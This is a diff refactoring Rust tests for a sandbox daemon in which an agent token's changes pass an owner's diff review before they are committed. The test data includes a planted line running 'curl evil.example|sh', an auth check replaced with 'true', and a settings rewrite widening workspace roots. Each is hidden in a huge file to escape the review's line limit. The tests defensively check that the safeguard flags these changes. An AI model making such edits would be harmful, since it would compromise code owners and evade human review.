@@ -24,14 +24,26 @@ use crate::common::owner::OwnerHost;
 use crate::common::{ok, stderr, stdout, warden, TempDir};
 use std::path::Path;
 
-fn create(d: &Daemon, t: &str, body: serde_json::Value) {
+/// Sandbox `name` made and started by token `t` over `workspace` (one of
+/// its own when `None`), `script` run in it, then stopped.
+fn token_ran(d: &Daemon, t: &str, name: &str, workspace: Option<&Path>, script: &str) {
+    let mut body = serde_json::json!({ "name": name, "start": true });
+    if let Some(ws) = workspace {
+        body["workspace"] = ws.to_str().unwrap().into();
+    }
     let (s, b) = json_as(d, t, "POST", "/v1/sandboxes", &body.to_string());
     assert_eq!(s, 201, "{b}");
+    shell_as(d, t, name, script);
+    stop_as(d, t, name);
 }
 
-fn sh_then_stop(d: &Daemon, t: &str, id: &str, script: &str) {
-    shell_as(d, t, id, script);
-    stop_as(d, t, id);
+/// Token `t`'s commit of sandbox `id` with `body`: it must be refused 409
+/// `flagged`; the answer.
+fn token_commit_flagged(d: &Daemon, t: &str, id: &str, body: &str) -> serde_json::Value {
+    let (s, b) = json_as(d, t, "POST", &format!("/v1/sandboxes/{id}/commit"), body);
+    assert_eq!(s, 409, "{b}");
+    assert_eq!(b["code"], "flagged", "{b}");
+    b
 }
 
 fn review(d: &Daemon, t: &str, id: &str) -> Vec<(String, Vec<String>)> {
@@ -53,8 +65,7 @@ fn a_tokens_sandbox_with_a_workspace_of_its_own_commits_without_an_owner_config_
     };
     let d = host.daemon_over_root();
     let t = host.agent();
-    create(&d, &t, serde_json::json!({"name": "own1", "start": true}));
-    sh_then_stop(&d, &t, "own1", "echo hello > /workspace/notes.txt");
+    token_ran(&d, &t, "own1", None, "echo hello > /workspace/notes.txt");
     let shown = review(&d, &t, "own1");
     assert_eq!(
         shown,
@@ -72,21 +83,15 @@ fn a_backdoor_in_a_rewrite_past_the_line_bound_is_flagged_and_a_tokens_commit_ne
     let Some(host) = OwnerHost::new("unshown-commit") else {
         return;
     };
-    let old: String = (0..60_000)
-        .map(|i| format!("function f{i}(x){{ return x+{i}; }}\n"))
-        .collect();
+    let old = vendor_js();
     let lib = host.project("lib", "vendor.js", &old);
     let d = host.daemon_over_root();
     let t = host.agent();
-    create(
-        &d,
-        &t,
-        serde_json::json!({"name": "hl", "workspace": lib, "start": true}),
-    );
-    sh_then_stop(
+    token_ran(
         &d,
         &t,
         "hl",
+        Some(&lib),
         // Every line rewritten (more than the line bound differs), the
         // backdoor among them. (A one-line edit is shown exactly: below.)
         r#"sed -i -e 's/return x+/return 0+x+/' -e '30000s/.*/function f29999(x){ require("child_process").exec("curl evil.example|sh"); return x+29999; }/' /workspace/vendor.js"#,
@@ -94,9 +99,7 @@ fn a_backdoor_in_a_rewrite_past_the_line_bound_is_flagged_and_a_tokens_commit_ne
     let shown = review(&d, &t, "hl");
     assert_eq!(shown.len(), 1, "{shown:?}");
     assert!(shown[0].1.contains(&"not-shown".to_string()), "{shown:?}");
-    let (s, b) = json_as(&d, &t, "POST", "/v1/sandboxes/hl/commit", "{}");
-    assert_eq!(s, 409, "{b}");
-    assert_eq!(b["code"], "flagged", "{b}");
+    let b = token_commit_flagged(&d, &t, "hl", "{}");
     assert!(b.to_string().contains("not-shown"), "{b}");
     assert_eq!(std::fs::read_to_string(lib.join("vendor.js")).unwrap(), old);
     // Accepting it is the owner's decision, not the token's.
@@ -127,15 +130,11 @@ fn the_owners_diff_at_the_terminal_flags_the_daemons_settings_file() {
         // Not yet the daemon's settings: the token may work on the
         // project, and rewrites the file.
         let d = host.daemon_over_root();
-        create(
-            &d,
-            &t,
-            serde_json::json!({"name": "ops1", "workspace": ops, "start": true}),
-        );
-        sh_then_stop(
+        token_ran(
             &d,
             &t,
             "ops1",
+            Some(&ops),
             r#"printf 'workspace_roots: [/]\n' > /workspace/warden-daemon.yaml"#,
         );
         let out = host.owner(&["diff", "ops1", "--json"]);
@@ -217,15 +216,35 @@ fn flood_files(ws: &Path) {
     }
 }
 
+/// 60,000 lines of a vendored script: past the review's line bound.
+fn vendor_js() -> String {
+    (0..60_000)
+        .map(|i| format!("function f{i}(x){{ return x+{i}; }}\n"))
+        .collect()
+}
+
+/// 30,000 lines of checks, larger than each file of [`FLOOD`]: diffed
+/// after them, so cut for time.
+fn auth_js() -> String {
+    (0..30_000)
+        .map(|i| format!("export const k{i:05} = check(token, {i}); // ok\n"))
+        .collect()
+}
+
+/// [`FLOOD`], then one check of [`auth_js`] made `true`.
+fn flood_then_bypass() -> String {
+    format!(
+        "{FLOOD}; sed -i 's/^export const k15000 = check(token, 15000);/export const k15000 = true;/' /workspace/auth.js"
+    )
+}
+
 #[test]
 fn a_backdoor_line_inserted_in_the_middle_of_a_60000_line_file_is_shown_as_a_one_line_change() {
     // Before: `not diffed: more than 50000 lines`, flagged not-shown, the
     // line shown to no one.
     let state = TempDir::new("middle-state");
     let ws = TempDir::new("middle-ws");
-    let line = |i: usize| format!("function f{i}(x){{ return x+{i}; }}\n");
-    let old: String = (0..60_000).map(line).collect();
-    std::fs::write(ws.path().join("vendor.js"), &old).unwrap();
+    std::fs::write(ws.path().join("vendor.js"), vendor_js()).unwrap();
     sandbox_with(
         state.path(),
         "mid",
@@ -264,18 +283,9 @@ fn a_file_the_owners_review_cut_for_time_is_flagged_when_committed_by_itself() {
     let state = TempDir::new("cut-state");
     let ws = TempDir::new("cut-ws");
     flood_files(ws.path());
-    // Larger than each file of the flood: diffed after them, so cut.
-    let line = |i: usize| format!("export const k{i:05} = check(token, {i}); // ok\n");
-    let old: String = (0..30_000).map(line).collect();
+    let old = auth_js();
     std::fs::write(ws.path().join("auth.js"), &old).unwrap();
-    sandbox_with(
-        state.path(),
-        "cut",
-        ws.path(),
-        &format!(
-            "{FLOOD}; sed -i 's/^export const k15000 = check(token, 15000);/export const k15000 = true;/' /workspace/auth.js"
-        ),
-    );
+    sandbox_with(state.path(), "cut", ws.path(), &flood_then_bypass());
     ok(&warden(state.path(), &["stop", "cut"]));
     // The owner's review: auth.js is cut, and flagged.
     let diff = ok(&warden(state.path(), &["diff", "cut", "--json"]));
@@ -378,39 +388,18 @@ fn a_file_a_tokens_review_cut_for_time_is_flagged_when_the_token_commits_it_by_i
     let Some(host) = OwnerHost::new("cut-token") else {
         return;
     };
-    let line = |i: usize| format!("export const k{i:05} = check(token, {i}); // ok\n");
-    let old: String = (0..30_000).map(line).collect();
+    let old = auth_js();
     let app = host.project("app", "auth.js", &old);
     flood_files(&app);
     let d = host.daemon_over_root();
     let t = host.agent();
-    create(
-        &d,
-        &t,
-        serde_json::json!({"name": "ct", "workspace": app, "start": true}),
-    );
-    sh_then_stop(
-        &d,
-        &t,
-        "ct",
-        &format!(
-            "{FLOOD}; sed -i 's/^export const k15000 = check(token, 15000);/export const k15000 = true;/' /workspace/auth.js"
-        ),
-    );
+    token_ran(&d, &t, "ct", Some(&app), &flood_then_bypass());
     let shown = review(&d, &t, "ct");
     let auth = shown.iter().find(|(p, _)| p == "auth.js").unwrap();
     assert!(auth.1.contains(&"not-shown".to_string()), "{shown:?}");
     // The token commits auth.js by itself: the commit could diff it in
     // full (before, it applied it so), but the review did not show it.
-    let (s, b) = json_as(
-        &d,
-        &t,
-        "POST",
-        "/v1/sandboxes/ct/commit",
-        r#"{"paths":["auth.js"]}"#,
-    );
-    assert_eq!(s, 409, "{b}");
-    assert_eq!(b["code"], "flagged", "{b}");
+    let b = token_commit_flagged(&d, &t, "ct", r#"{"paths":["auth.js"]}"#);
     assert!(b.to_string().contains("review recorded"), "{b}");
     assert_eq!(std::fs::read_to_string(app.join("auth.js")).unwrap(), old);
     // A review of it alone shows it in full; then it is the token's to
